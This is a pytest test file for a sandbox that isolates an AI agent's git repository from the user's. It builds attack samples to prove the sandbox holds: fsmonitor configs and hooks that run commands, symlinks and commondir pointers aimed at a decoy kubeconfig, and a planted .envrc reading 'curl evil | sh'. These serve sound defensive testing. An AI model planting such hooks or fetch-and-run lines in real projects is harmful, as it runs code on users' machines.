"""The host's side of the git boundary, on real repositories (issue 9).

The agent's own git is driven here the way the sandbox drives it (GIT_DIR on the agent's
repository, the user's objects borrowed); the containers themselves are in
tests/docker/test_git_boundary.py. What must not change is snapshotted before and after.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from isofeat.cli import main
from isofeat.layout import env_id_for


def git(*args: str, cwd: Path, env: dict[str, str] | None = None) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid", *args],
        cwd=cwd, check=True, capture_output=True, text=True, env=env,
    ).stdout


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for key, sub in (("HOME", "home"), ("XDG_STATE_HOME", "state"), ("XDG_CONFIG_HOME", "cfg")):
        monkeypatch.setenv(key, str(tmp_path / sub))
    for key in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"):
        monkeypatch.setenv(key, "t")
    for key in ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"):
        monkeypatch.setenv(key, "t@t.invalid")
    (tmp_path / "home").mkdir()
    return tmp_path


@pytest.fixture
def repo(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = home / "proj"
    (root / ".devcontainer").mkdir(parents=True)
    (root / ".devcontainer" / "isofeat.json").write_text("{}\n")
    (root / ".devcontainer" / ".gitignore").write_text(".env\n")  # as the template has it
    (root / "a.txt").write_text("one\n")
    git("init", "-q", "-b", "main", cwd=root)
    git("add", ".", cwd=root)
    git("commit", "-qm", "init", cwd=root)
    monkeypatch.chdir(root)
    return root


@pytest.fixture
def decoy(home: Path) -> Path:
    """A host folder the agent must never reach: ~/.kube with a 0600 config."""
    kube = home / "home" / ".kube"
    kube.mkdir(mode=0o700)
    (kube / "config").write_text("token: s3cret\n")
    os.chmod(kube / "config", 0o600)
    return kube


def tree_state(root: Path) -> dict[str, tuple[int, int, int, str]]:
    """Every path under ``root``: mode, uid, gid and a digest of the content."""
    out = {}
    for path in sorted([root, *root.rglob("*")]):
        st = os.lstat(path)
        digest = (hashlib.sha256(path.read_bytes()).hexdigest()
                  if path.is_file() and not path.is_symlink() else "")
        out[str(path.relative_to(root))] = (st.st_mode, st.st_uid, st.st_gid, digest)
    return out


def init(ws: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    assert main(["init", str(ws), "--json"]) == 0, capsys.readouterr().err
    data: dict[str, object] = json.loads(capsys.readouterr().out)
    return data


def agent_git(ws: Path, home: Path) -> Path:
    return home / "state" / "isofeat" / "envs" / env_id_for(ws) / "git"


def as_agent(ws: Path, home: Path, main_repo: Path, *args: str) -> str:
    """Git as the sandbox runs it: on its own repository, the user's objects borrowed."""
    env = {**os.environ, "GIT_DIR": str(agent_git(ws, home)), "GIT_WORK_TREE": str(ws),
           "GIT_ALTERNATE_OBJECT_DIRECTORIES": str(main_repo / ".git" / "objects")}
    return git(*args, cwd=ws, env=env)


def new_task(name: str, repo: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    assert main(["task", "new", name]) == 0, capsys.readouterr().err
    capsys.readouterr()
    ws = repo.parent / f"{repo.name}-{name}"
    init(ws, capsys)
    return ws


# --- isofeat init refuses a git that is not the user's own ----------------------------------


def test_init_makes_the_agent_a_git_of_its_own_and_never_shares_the_users(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree_state(repo / ".git")
    result = init(repo, capsys)
    assert result["agent_git_created"] is True
    agent = agent_git(repo, home)
    assert (agent / "objects" / "info" / "alternates").read_text() == "/run/isofeat/git-objects\n"
    assert (agent / "HEAD").read_text() == "ref: refs/heads/main\n"
    assert agent.stat().st_gid == 2000 and agent.stat().st_mode & 0o7777 == 0o2770
    assert "sharedrepository = group" in (agent / "config").read_text().lower()
    # The agent's git starts where the user's is, and its status is clean (index copied).
    assert as_agent(repo, home, repo, "status", "--porcelain", "-uno") == ""
    assert as_agent(repo, home, repo, "rev-parse", "HEAD") == git("rev-parse", "HEAD", cwd=repo)
    assert tree_state(repo / ".git") == before
    # Reopening never touches it again (the agent may have written anything there).
    (agent / "config").write_text("[core]\n\tfsmonitor = touch /tmp/never\n")
    assert init(repo, capsys)["agent_git_created"] is False
    assert (agent / "config").read_text() == "[core]\n\tfsmonitor = touch /tmp/never\n"


def test_init_refuses_a_dot_git_it_does_not_own(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if os.getuid() != 0:
        pytest.skip("needs root to give .git to another uid")
    os.chown(repo / ".git", 1001, 2000)
    assert main(["init", str(repo)]) == 2
    err = capsys.readouterr().err
    assert "belongs to uid 1001, not to you" in err and "fix:" in err
    assert not (repo / ".devcontainer" / ".env").exists()  # nothing half-written


def test_init_refuses_a_commondir_in_a_main_repository(
    repo: Path, decoy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Attack 1: commondir leads git to a config with core.fsmonitor and to hooks.
    evil = repo.parent / "evil"
    (evil / "hooks").mkdir(parents=True)
    (evil / "config").write_text("[core]\n\tfsmonitor = \"touch /tmp/pwned; echo 0 #\"\n")
    (repo / ".git" / "commondir").write_text(str(evil) + "\n")
    assert main(["init", str(repo)]) == 2
    assert "commondir" in capsys.readouterr().err
    assert main(["task", "list"]) == 2
    assert not (repo / ".devcontainer" / ".env").exists()


@pytest.mark.parametrize("target", ["decoy", "fake-record", "other-record"])
def test_init_refuses_a_worktree_pointer_the_main_repository_does_not_list(
    repo: Path, home: Path, decoy: Path, capsys: pytest.CaptureFixture[str], target: str
) -> None:
    # Attack 2: a .git file whose gitdir (and its commondir) names a host folder.
    ws = new_task("t", repo, capsys)
    other = new_task("u", repo, capsys)
    before = tree_state(decoy), tree_state(repo / ".git")
    if target == "decoy":
        pointer = decoy
    elif target == "fake-record":
        pointer = home / "fake" / ".git" / "worktrees" / "t"
        pointer.mkdir(parents=True)
        (pointer / "commondir").write_text(str(decoy) + "\n")
        (pointer / "gitdir").write_text(str(ws / ".git") + "\n")
    else:  # another task's record in the real main repository
        pointer = Path(git("rev-parse", "--absolute-git-dir", cwd=other).strip())
    (ws / ".git").write_text(f"gitdir: {pointer}\n")
    assert main(["init", str(ws)]) == 2
    err = capsys.readouterr().err
    assert "fix:" in err
    assert (tree_state(decoy), tree_state(repo / ".git")) == before


def test_init_refuses_a_symlinked_dot_git(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = home / "ws"
    (ws / ".devcontainer").mkdir(parents=True)
    (ws / ".git").symlink_to(repo / ".git")
    assert main(["init", str(ws)]) == 2
    assert "symbolic link" in capsys.readouterr().err


def test_share_never_follows_a_link_out_of_the_workspace(
    repo: Path, decoy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "kube").symlink_to(decoy)
    (repo / "kubeconfig").symlink_to(decoy / "config")
    before = tree_state(decoy)
    init(repo, capsys)
    assert tree_state(decoy) == before


# --- the work comes back through task merge, guarded -----------------------------------------


def test_a_sandbox_commit_reaches_main_through_merge_and_rm_then_succeeds(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = new_task("feat", repo, capsys)
    (ws / "new.txt").write_text("from the agent\n")
    as_agent(ws, home, repo, "add", "new.txt")
    as_agent(ws, home, repo, "commit", "-qm", "agent work")
    tip = as_agent(ws, home, repo, "rev-parse", "HEAD").strip()

    assert main(["task", "list", "--json"]) == 0
    (listed,) = json.loads(capsys.readouterr().out)
    assert listed["agent_head"] == tip and listed["unmerged"] is True
    # Unmerged sandbox work is not thrown away without --force; nothing is removed.
    assert main(["task", "rm", "feat"]) == 2
    assert "no other branch" in capsys.readouterr().err
    assert ws.is_dir() and agent_git(ws, home).is_dir()

    assert main(["task", "merge", "feat", "--json"]) == 0
    merged = json.loads(capsys.readouterr().out)
    assert merged["merged"] == tip and merged["merged_into"] == "main"
    assert (repo / "new.txt").read_text() == "from the agent\n"
    assert git("rev-parse", "refs/heads/task/feat", cwd=repo).strip() == tip
    assert git("status", "--porcelain", cwd=repo) == ""
    assert main(["task", "rm", "feat"]) == 0
    assert not ws.exists() and not agent_git(ws, home).exists()
    assert "task/feat" not in git("branch", "--list", cwd=repo)


@pytest.mark.parametrize(
    "path",
    [".devcontainer/compose.yaml", ".devcontainer.json", ".vscode/tasks.json",
     ".vscode/settings.json", "app.code-workspace", ".envrc", "sub/dir/.envrc",
     ".gitattributes", "deep/er/.gitattributes", ".gitmodules", ".pre-commit-config.yaml",
     ".husky/pre-commit", ".claude/settings.json", ".mcp.json", ".idea/workspace.xml",
     ".github/workflows/ci.yml", "mise.toml", ".tool-versions"],
)
def test_merge_shows_and_refuses_files_that_host_tools_act_on(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str], path: str
) -> None:
    ws = new_task("box", repo, capsys)
    target = ws / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("planted\n")
    as_agent(ws, home, repo, "add", "-f", path)
    as_agent(ws, home, repo, "commit", "-qm", "innocent")
    head = git("rev-parse", "HEAD", cwd=repo)
    assert main(["task", "merge", "box"]) == 2
    err = capsys.readouterr().err
    assert path in err and "--allow-devcontainer-changes" in err
    assert git("rev-parse", "HEAD", cwd=repo) == head
    assert not (repo / path).exists()
    assert main(["task", "merge", "box", "--allow-devcontainer-changes"]) == 0
    assert (repo / path).read_text() == "planted\n"


def test_a_merge_conflict_aborts_cleanly_with_exit_2(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = new_task("clash", repo, capsys)
    (ws / "a.txt").write_text("agent\n")
    as_agent(ws, home, repo, "commit", "-qam", "agent edit")
    (repo / "a.txt").write_text("user\n")
    git("commit", "-qam", "user edit", cwd=repo)
    head = git("rev-parse", "HEAD", cwd=repo)
    assert main(["task", "merge", "clash"]) == 2
    err = capsys.readouterr().err
    assert "conflicts in a.txt" in err and "nothing was changed" in err and "fix:" in err
    assert git("status", "--porcelain", cwd=repo) == ""
    assert git("rev-parse", "HEAD", cwd=repo) == head
    assert (repo / "a.txt").read_text() == "user\n"


def test_merge_on_a_detached_head_is_refused_before_anything_happens(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = new_task("det", repo, capsys)
    (ws / "b.txt").write_text("b\n")
    as_agent(ws, home, repo, "add", "b.txt")
    as_agent(ws, home, repo, "commit", "-qm", "b")
    git("checkout", "-q", "--detach", cwd=repo)
    refs = git("for-each-ref", cwd=repo)
    assert main(["task", "merge", "det"]) == 2
    assert "detached HEAD" in capsys.readouterr().err
    assert git("for-each-ref", cwd=repo) == refs


def test_task_new_refuses_a_base_whose_box_differs_until_the_user_accepts(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["task", "new", "first"]) == 0
    (repo / ".devcontainer" / "compose.yaml").write_text("services: {dev: {privileged: true}}\n")
    git("add", ".", cwd=repo)
    git("commit", "-qm", "a new box", cwd=repo)
    capsys.readouterr()
    assert main(["task", "new", "second"]) == 2
    err = capsys.readouterr().err
    assert "another .devcontainer/" in err and "compose.yaml" in err
    assert not (repo.parent / f"{repo.name}-second").exists()
    assert main(["task", "new", "second", "--accept-devcontainer"]) == 0
    assert main(["task", "new", "third"]) == 0  # the accepted box is now the approved one


# --- hostile contents of the agent's git -------------------------------------------------------


def test_nothing_the_agent_wrote_in_its_git_runs_or_is_followed_on_the_host(
    repo: Path, home: Path, decoy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = new_task("evil", repo, capsys)
    (ws / "w.txt").write_text("work\n")
    as_agent(ws, home, repo, "add", "w.txt")
    as_agent(ws, home, repo, "commit", "-qm", "work")
    agent = agent_git(ws, home)
    canary = home / "canary"
    # Everything git would run or follow: fsmonitor, hooks, commondir, alternates, links.
    (agent / "config").write_text(
        (agent / "config").read_text()
        + f'[core]\n\tfsmonitor = "touch {canary}; echo 0 #"\n\thooksPath = {agent}/hooks\n'
    )
    (agent / "hooks").mkdir(exist_ok=True)
    for hook in ("pre-commit", "post-merge", "reference-transaction", "post-checkout"):
        (agent / "hooks" / hook).write_text(f"#!/bin/sh\ntouch {canary}\n")
        os.chmod(agent / "hooks" / hook, 0o755)  # noqa: S103 (an executable hook is the point)
    (agent / "commondir").write_text(str(decoy) + "\n")
    (agent / "objects" / "info" / "alternates").write_text(str(decoy) + "\n")
    (agent / "refs" / "heads" / "task" / "link").symlink_to(decoy / "config")
    (agent / "objects" / "ab").mkdir(exist_ok=True)
    (agent / "objects" / "ab" / ("c" * 38)).symlink_to(decoy / "config")
    (agent / "packed-refs").write_text(f"{'0' * 40} refs/heads/../../escape\n")
    before = tree_state(decoy), tree_state(repo / ".git" / "hooks")

    assert main(["task", "list", "--json"]) == 0
    names = [t["name"] for t in json.loads(capsys.readouterr().out)]
    assert names == ["evil"]
    assert main(["fetch"]) == 0
    assert main(["task", "merge", "evil"]) == 0, capsys.readouterr().err
    assert (repo / "w.txt").read_text() == "work\n"
    assert main(["init", str(ws)]) == 0
    assert main(["task", "rm", "evil", "--force"]) == 0
    assert not canary.exists()
    assert (tree_state(decoy), tree_state(repo / ".git" / "hooks")) == before
    assert not ws.exists()


def test_a_sandbox_branch_whose_objects_are_missing_is_refused(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = new_task("gone", repo, capsys)
    branch = agent_git(ws, home) / "refs" / "heads" / "task" / "gone"
    branch.write_text("1234567890" * 4 + "\n")
    head = git("rev-parse", "HEAD", cwd=repo)
    assert main(["task", "merge", "gone"]) == 2
    assert "missing or damaged" in capsys.readouterr().err
    assert git("rev-parse", "HEAD", cwd=repo) == head


def test_fetch_brings_a_direct_opens_branches_in_as_sandbox_refs(
    repo: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    init(repo, capsys)
    (repo / "c.txt").write_text("c\n")
    (repo / ".envrc").write_text("curl evil | sh\n")
    as_agent(repo, home, repo, "add", "c.txt", ".envrc")
    as_agent(repo, home, repo, "commit", "-qm", "agent on main")
    as_agent(repo, home, repo, "branch", "side")
    user_head = git("rev-parse", "refs/heads/main", cwd=repo)
    assert main(["fetch", "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert set(result["branches"]) == {"sandbox/main", "sandbox/side"}
    assert result["branches"]["sandbox/main"]["host_tool_changes"] == [".envrc"]
    # The user's own branch did not move: only sandbox/* refs were written.
    assert git("rev-parse", "refs/heads/main", cwd=repo) == user_head
    assert "agent on main" in git("log", "-1", "--format=%s", "sandbox/main", cwd=repo)
